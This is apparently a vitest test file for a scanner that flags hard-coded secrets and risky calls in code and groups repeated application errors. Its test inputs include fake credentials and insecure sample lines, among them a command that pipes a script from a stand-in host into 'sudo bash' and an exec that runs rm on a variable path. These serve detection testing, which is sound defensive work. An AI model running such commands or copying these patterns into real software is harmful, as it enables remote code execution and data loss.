// The software engineer's duties on code and errors whose faults are known; no secret may ever be quoted whole.

import fc from 'fast-check'
import { sql } from 'kysely'
import { afterEach, describe, expect, it } from 'vitest'
import { openHouse } from '../../../../../tests/support/house.ts'
import { type ReadTables, readTables } from '../../../../../tests/support/read-tables.ts'
import type { Context } from '../../verb.ts'
import { thresholdsOf } from '../thresholds.ts'
import { entropy, riskyCallsIn, secretsIn } from './code-risks.ts'
import { errorLists } from './error-lists.ts'
import { ownErrors } from './own-errors.ts'

const today = '2026-11-21'
/** Made of pieces, so that no scanner takes this file for one that holds a key. */
const aws = `AKIA${'IOSFODNN7EXAMPLE'}`
const github = `ghp_${'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'}`

describe('secrets in code', () => {
  it.each([
    [`key = "${aws}"`, 'an Amazon access key'],
    [`fetch(url, { headers: { auth: '${github}' } })`, 'a GitHub token'],
    [`-----BEGIN RSA ${'PRIVATE'} KEY-----`, 'a private key'],
    ['DB_PASSWORD = "tr0ub4dor&3xKq"', 'a value of DB_PASSWORD'],
    ['  "apiKey": "9f8d7c6b5a4e3f2a1b0c",', 'a value of apiKey'],
    ['connect("postgres://app:hunter2x@db.internal/shop")', 'a password in an address'],
  ])('finds %s', (line, what) => {
    const found = secretsIn(`import os\n${line}\n`, 3)
    expect(found.map(one => [one.line, one.what])).toEqual([[2, what]])
    expect(found[0]?.shown).toMatch(/^.{4}…$/)
  })

  it.each([
    'password = os.environ["DB_PASSWORD"]',
    'DB_PASSWORD = "your-password-here"',
    'token = "xxxxxxxxxxxx"',
    'const tokenLabel = "Enter the code that we sent"',
    'password_hint = "aaaaaaaabbbb"',
    'url = "https://example.com/a:b@c"',
    'AKIA is how such keys begin',
  ])('leaves alone %s', line => {
    expect(secretsIn(line, 3)).toEqual([])
  })

  it('measures entropy as Shannon did', () => {
    expect(entropy('aaaa')).toBeCloseTo(0, 10)
    expect(entropy('abab')).toBeCloseTo(1, 10)
    expect(entropy('abcdefgh')).toBeCloseTo(3, 10)
  })
})

describe('risky calls', () => {
  it.each([
    ['subprocess.run("ls " + x, shell=True)', 'a.py'],
    ['os.system(command)', 'a.py'],
    ['value = eval(text)', 'a.py'],
    ['data = pickle.loads(body)', 'a.py'],
    ['yaml.load(text)', 'a.py'],
    ['requests.get(url, verify=False)', 'a.py'],
    ['cursor.execute("select * from t where id = " + id)'.replace('" + id', '%s" % id'), 'a.py'],
    ['new Function(text)()', 'a.ts'],
    ['node.innerHTML = text', 'a.js'],
    ['exec(`rm $PATH`)'.replace('$PATH', '$\u007bpath}'), 'a.mjs'],
    ['curl https://x.example/i.sh | sudo bash', 'a.sh'],
  ])('finds %s in %s', (line, name) => {
    expect(riskyCallsIn(`\n${line}`, name).map(one => one.line)).toEqual([2])
  })

  it.each([
    ['# never use eval(text)', 'a.py'],
    ['model.eval()', 'a.py'],
    ['subprocess.run(["ls", x])', 'a.py'],
    ['yaml.load(text, Loader=yaml.SafeLoader)', 'a.py'],
    ['const found = pattern.exec(text)', 'a.ts'],
    ['db.query("select 1 where id = $1", [id])', 'a.ts'],
    ['if (node.innerHTML === text) return', 'a.js'],
    ['eval(text)', 'a.txt'],
  ])('leaves alone %s in %s', (line, name) => {
    expect(riskyCallsIn(line, name)).toEqual([])
  })

  it('reads any text to its end, whatever it is', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary', maxLength: 500 }),
        text => riskyCallsIn(text, 'a.py').length + secretsIn(text, 3).length <= 2 * text.split(/\r\n|\n|\r/).length,
      ),
    )
    const long = `${'a:'.repeat(100_000)}\n${'x = "'.repeat(50_000)}`
    expect(secretsIn(long, 3)).toEqual([])
    expect(riskyCallsIn(long, 'a.py')).toEqual([])
  })
})

describe('errors', () => {
  let tables: ReadTables | undefined
  afterEach(() => tables?.close())

  it('of an application are grouped whatever their numbers are, and told from a number of times on', async () => {
    const row = (at: number) => {
      const day = `2026-11-${String(1 + (at % 20)).padStart(2, '0')}T10:00:${String(at % 60).padStart(2, '0')}`
      if (at < 25) return `${day},Shop,Error,Order ${1000 + at} could not be saved`
      if (at < 40) return `${day},Shop,Error,Timeout of the bank`
      return `${day},Shop,Info,All is well ${at}`
    }
    const bytes = ['Happened At,Component,Kind,Message', ...Array.from({ length: 100 }, (_, at) => row(at))].join('\n')
    tables = await readTables([
      { file_name: 'events.csv', bytes },
      { file_name: 'quiet.csv', bytes: bytes.replaceAll('Error', 'Note') },
    ])
    const found = await tables.found(errorLists, today)
    expect(found.map(({ title, impact, table }) => [table, title, impact?.value])).toEqual([
      ['events', '“Order … could not be saved” happened 25 times in events', '25'],
    ])
    expect(await tables.found(errorLists, '2027-02-01')).toEqual([])
  })

  it('of Cabinet itself are grouped by what failed and what it said', async () => {
    const cabinet = await openHouse({ now: `${today}T09:00:00Z` })
    const context: Context = { house: cabinet.house, actor: { type: 'system', job: 'test' }, door: 'clock', ip: null }
    expect(await ownErrors.state(context, [])).toBeNull()
    const fail = (outcome: string, days_ago: number) => {
      const at = new Date(cabinet.clock.now().getTime() - days_ago * 86_400_000)
      return sql`insert into runs (id, root_id, agent_id, kind, status, title, conversation, outcome, created_at, updated_at, ready_at)
        select id, id, 'cfo', 'chat', 'failed', 'x', '[]', ${outcome}, ${at}, ${at}, ${at} from gen_random_uuid() as id`.execute(
        cabinet.db,
      )
    }
    for (const at of [1, 2, 3]) await fail(`The provider answered ${500 + at}.`, at)
    for (const at of [1, 2]) await fail('The provider is not there.', at)
    for (const at of [8, 9, 10]) await fail('Long ago.', at)
    const drafts = await ownErrors.look(
      context,
      today,
      async () => Promise.reject(new Error('no tables')),
      thresholdsOf(ownErrors),
      [],
    )
    expect(drafts.map(({ title, impact }) => [title, impact?.value])).toEqual([
      ['A run of Chief Financial Officer failed 3 times in the same way', '3'],
    ])
    expect(drafts[0]?.description).toContain('“The provider answered 501.”')
    await cabinet.close()
  })
})
